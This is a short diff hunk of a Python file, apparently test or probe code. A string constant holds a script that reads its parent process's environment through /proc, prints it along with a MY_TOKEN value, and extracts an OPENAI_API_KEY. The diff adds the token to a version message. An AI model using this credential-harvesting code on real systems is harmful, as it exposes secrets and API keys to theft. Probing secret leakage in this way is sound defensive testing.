@@ -33,7 +33,7 @@ SEE = (
 )
 TELL = """
 import sys
-if not sys.argv[1:]: sys.exit(print('version 1'))
+if not sys.argv[1:]: sys.exit(print('version 1', os.environ.get('MY_TOKEN')))
 above = open(f'/proc/{os.getppid()}/environ').read()
 print(above, os.environ.get('MY_TOKEN'))
 key = above.partition('OPENAI_API_KEY=')[2].partition(chr(0))[0]
